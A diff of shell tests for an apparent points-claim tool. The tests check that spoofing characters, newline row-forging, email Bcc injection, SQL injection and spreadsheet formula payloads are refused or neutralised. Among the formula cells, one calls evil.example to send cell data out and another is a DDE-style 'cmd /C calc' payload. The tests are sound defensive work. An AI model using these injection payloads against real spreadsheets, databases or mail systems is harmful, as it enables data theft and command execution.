@@ -26,6 +26,46 @@ refused 65 "reason" sec decline 1 --reason $'no\x1b[2J'
 refused 65 "too long" sec decline 1 --reason "$big_note"
 refused 65 "reason" sec exempt ann --year 2017 --reason $'ill\nBcc: x@evil.example'
 
+TEST "text that would read other than it is on the secretary's screen"
+rlo=$'\u202e' lri=$'\u2066'
+refused 65 "control characters" ann claim iims-webinar --date 2017-03-02 --note "approved by sec${rlo}"
+refused 65 "control characters" ann claim iims-webinar --date 2017-03-02 --note "a${lri}b"
+refused 65 "name" sec member add eve --name "Eve${rlo}reveS" --email eve@example.org
+printf '%%PDF-1.4\n' >"$TESTDIR/cert${rlo}fdp.exe"
+refused 66 "" ann claim technical-paper --attach "$TESTDIR/cert${rlo}fdp.exe"
+# A note cannot fake a row of the secretary's table.
+ok ann claim iims-webinar --date 2017-03-06 --note $'fine\n  99  bob  iims-training-day  2017-03-01  5'
+ok sec pending
+expect_equal "$(grep -cE '^ *99 ' <<<"$OUT")" "0"
+expect_contains "$OUT" $'fine\u21b5  99  bob'
+ok ann claim iims-webinar --date 2017-03-07 --note $'tab\there'
+ok sec pending
+expect_contains "$OUT" $'tab\u21e5here'
+
+TEST "CSV cells a spreadsheet would run as formulas are neutralised"
+ok ann claim iims-webinar --date 2017-03-08 --note '=HYPERLINK("http://evil.example/?"&A1,"click")'
+ok ann claim iims-webinar --date 2017-03-09 --note '@SUM(1+1)*cmd|'"' /C calc'"'!A0'
+ok ann claim iims-webinar --date 2017-03-10 --note $'\t=1+2'
+ok ann history --csv
+expect_contains "$OUT" "'=HYPERLINK"
+expect_contains "$OUT" "'@SUM"
+expect_contains "$OUT" $',\'\t=1+2,'
+expect_not_contains "$OUT" ',=HYPERLINK'
+ok sec member add minus --name '-2+3' --email minus@example.org
+ok sec report --csv
+expect_contains "$OUT" "minus,'-2+3,"
+ok sec approve 1
+ok sec revoke 1 --reason "-1 point for a mistake"
+ok ann history --csv
+expect_contains "$OUT" "'-1 point for a mistake"
+ok ann history --ledger --csv
+expect_contains "$OUT" ",revocation,-1,"  # points stay numbers
+
+TEST "a secretary does not grant themself a dispensation"
+refused 77 "themself" sec exempt sec --year 2017 --reason "busy"
+ok sec member add sue --name "Sue Second" --email sue@example.org --secretary
+ok sue exempt sec --year 2017 --reason "on leave"
+
 TEST "SQL metacharacters are data"
 ok sec member add "o.brien" --name "Robert'); DROP TABLE member;--" --email "o'brien@example.org"
 expect_equal "$(sql "SELECT name, email FROM member WHERE login = 'o.brien'")" "Robert'); DROP TABLE member;--|o'brien@example.org"
